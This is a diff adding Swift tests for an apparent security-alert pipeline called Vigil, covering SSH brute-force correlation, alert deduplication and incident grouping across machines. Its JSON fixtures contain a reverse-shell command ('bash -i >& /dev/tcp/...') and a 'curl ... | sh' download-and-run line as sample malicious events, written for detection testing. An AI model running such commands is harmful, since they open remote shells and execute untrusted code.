@@ -1,0 +1,142 @@
+import Foundation
+import Testing
+import VigilDetection
+import VigilIngest
+import VigilModel
+import VigilPipeline
+import VigilStore
+
+/// sshd failures from one address, `interval` seconds apart, starting Mar 3 10:00:00.
+func sshFailures(count: Int, interval: Int, from address: String = "203.0.113.5", startSecond: Int = 0) -> String {
+    (0..<count).map { index in
+        let total = startSecond + index * interval
+        let clock = String(format: "%02d:%02d:%02d", 10 + total / 3600, total / 60 % 60, total % 60)
+        return "Mar  3 \(clock) web-01 sshd[\(1000 + index)]: Failed password for root from \(address) port \(40000 + index) ssh2"
+    }.joined(separator: "\n") + "\n"
+}
+
+@Suite struct CorrelationPipelineTests {
+    func importSyslog(_ texts: [String]) throws -> (Store, [ImportSummary]) {
+        let workspace = Workspace()
+        let store = try Store(path: workspace.database)
+        try store.setIntegration("syslog", enabled: true, actor: "test")
+        var summaries: [ImportSummary] = []
+        for (index, text) in texts.enumerated() {
+            // A new pipeline per file, as separate `vigil import` runs are.
+            let path = try workspace.file("auth\(index).log", text)
+            summaries.append(try ImportPipeline(store: store, ruleSet: .builtin()).importFiles([path], format: .fixed(.syslog), integration: "syslog", actor: "test"))
+        }
+        return (store, summaries)
+    }
+
+    @Test func bruteForceRaisesExactlyOneCorrelationAlert() throws {
+        let (store, _) = try importSyslog([sshFailures(count: 30, interval: 5)])
+        let alerts = try store.alerts(AlertFilter())
+        #expect(alerts.map(\.title) == ["SSH brute force from one address"])
+        #expect(alerts.first?.eventCount ?? 0 >= 10)
+        #expect(alerts.first?.matchedFields.contains("\"SourceIp\":\"203.0.113.5\"") == true)
+    }
+
+    @Test func theSameFailuresSpreadWiderThanFiveMinutesRaiseNone() throws {
+        // 10 failures 34 s apart span 306 s: no 5-minute window holds 10 of them.
+        let (store, _) = try importSyslog([sshFailures(count: 10, interval: 34)])
+        #expect(try store.alerts(AlertFilter()).isEmpty)
+    }
+
+    @Test func aCorrelationSpansTwoImportedFiles() throws {
+        let (store, _) = try importSyslog([sshFailures(count: 6, interval: 5), sshFailures(count: 6, interval: 5, startSecond: 40)])
+        #expect(try store.alerts(AlertFilter()).map(\.title) == ["SSH brute force from one address"])
+    }
+
+    @Test func reimportingTheSameFailuresChangesNothing() throws {
+        let text = sshFailures(count: 12, interval: 5)
+        let (store, summaries) = try importSyslog([text, text])
+        #expect(summaries[1].outcome.stored == 0)
+        #expect(summaries[1].outcome.alertsRaised == 0)
+        #expect(try store.alerts(AlertFilter()).count == 1)
+    }
+}
+
+@Suite struct IncidentAndDedupeTests {
+    func importJSON(_ lines: [String], policy: IncidentPolicy = IncidentPolicy(), dedupe: Duration = .seconds(3600)) throws -> Store {
+        let workspace = Workspace()
+        let store = try Store(path: workspace.database)
+        try store.setIntegration("json", enabled: true, actor: "test")
+        let path = try workspace.file("events.ndjson", lines.joined(separator: "\n"))
+        _ = try ImportPipeline(store: store, ruleSet: .builtin(), dedupeWindow: dedupe, incidentPolicy: policy)
+            .importFiles([path], format: .fixed(.json), integration: "json", actor: "test")
+        return store
+    }
+
+    func antivirus(_ host: String, _ time: String, signature: String = "Unix.Trojan.Mirai-1", extra: String = "") -> String {
+        #"{"@timestamp":"\#(time)","hostname":"\#(host)","os_platform":"linux","logsource":{"category":"antivirus"},"Signature":"\#(signature)"\#(extra)}"#
+    }
+
+    @Test func repeatsWithinTheDedupeWindowFoldAndOneAfterItOpensANewAlert() throws {
+        let store = try importJSON([
+            antivirus("web-01", "2026-03-03T10:00:00Z"), antivirus("web-01", "2026-03-03T10:59:59Z"),
+            antivirus("web-01", "2026-03-03T12:00:00Z"),
+        ])
+        let alerts = try store.alerts(AlertFilter(sort: .firstEvent))
+        #expect(alerts.map(\.eventCount).sorted() == [1, 2])
+    }
+
+    @Test func sameMachineWithin24HoursIsOneIncident() throws {
+        let store = try importJSON([
+            antivirus("web-01", "2026-03-03T10:00:00Z"),
+            #"{"@timestamp":"2026-03-03T18:00:00Z","hostname":"web-01","logsource":{"category":"process_creation"},"CommandLine":"bash -i >& /dev/tcp/1.2.3.4/80 0>&1"}"#,
+            antivirus("web-01", "2026-03-06T10:00:00Z", signature: "Other.Thing"),
+        ])
+        let incidents = try store.incidents()
+        #expect(incidents.map(\.alertCount).sorted() == [1, 2])
+        let grouped = try #require(incidents.first { $0.alertCount == 2 })
+        #expect(grouped.reason.contains("same machine web-01 within 24h"))
+        #expect(grouped.severity == .high)
+    }
+
+    @Test func aSharedFileHashJoinsMachines() throws {
+        var policy = IncidentPolicy()
+        policy.burstWindow = .seconds(1)
+        let hash = #","sha256":"aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889999""#
+        let store = try importJSON([
+            antivirus("web-01", "2026-03-03T10:00:00Z", extra: hash),
+            antivirus("db-01", "2026-03-03T15:00:00Z", signature: "Unix.Other", extra: hash),
+        ], policy: policy)
+        let incidents = try store.incidents()
+        #expect(incidents.count == 1)
+        #expect(incidents.first?.reason.contains("db-01 shares sha256 aaaabbbb") == true)
+    }
+
+    @Test func aSharedRemoteAddressJoinsMachines() throws {
+        var policy = IncidentPolicy()
+        policy.burstWindow = .seconds(1)
+        let store = try importJSON([
+            #"{"@timestamp":"2026-03-03T10:00:00Z","hostname":"web-01","logsource":{"category":"process_creation"},"CommandLine":"bash -i >& /dev/tcp/1.2.3.4/80 0>&1","DestinationIp":"198.51.100.7"}"#,
+            #"{"@timestamp":"2026-03-03T12:00:00Z","hostname":"db-01","logsource":{"category":"process_creation"},"CommandLine":"curl http://x | sh","DestinationIp":"198.51.100.7"}"#,
+        ], policy: policy)
+        #expect(try store.incidents().first?.reason.contains("shares ip 198.51.100.7") == true)
+    }
+
+    @Test func theSameRuleInABurstJoinsMachines() throws {
+        let store = try importJSON([antivirus("web-01", "2026-03-03T10:00:00Z"), antivirus("db-01", "2026-03-03T10:20:00Z")])
+        let incidents = try store.incidents()
+        #expect(incidents.count == 1)
+        #expect(incidents.first?.reason.contains("fired on db-01 and web-01 within 1h") == true)
+    }
+
+    @Test func incidentStatusFollowsItsAlertsUntilSetByHand() throws {
+        let store = try importJSON([antivirus("web-01", "2026-03-03T10:00:00Z"), antivirus("web-01", "2026-03-03T10:00:01Z", signature: "Other")])
+        let ids = try store.alerts(AlertFilter()).map(\.id)
+        try store.updateAlerts(ids: [ids[0]], AlertUpdate(status: "in_progress"), actor: "t")
+        #expect(try store.incidents().first?.status == "in_progress")
+        try store.updateAlerts(ids: ids, AlertUpdate(status: "resolved", classification: "true_positive", comment: "cleaned"), actor: "t")
+        #expect(try store.incidents().first?.status == "resolved")
+        let incident = try #require(try store.incidents().first)
+        try store.updateIncident(id: incident.id, status: "in_progress", assignedTo: "carol", classification: nil, comment: nil, actor: "t")
+        try store.updateAlerts(ids: ids, AlertUpdate(status: "new"), actor: "t")
+        #expect(try store.incident(id: incident.id)?.status == "in_progress")
+        #expect(try store.history(of: "alert:\(ids[0])").count == 3)
+        #expect(try store.comments(alertID: ids[0]).map(\.text) == ["cleaned"])
+        #expect(throws: StoreError.self) { try store.updateAlerts(ids: ids, AlertUpdate(status: "done"), actor: "t") }
+    }
+}
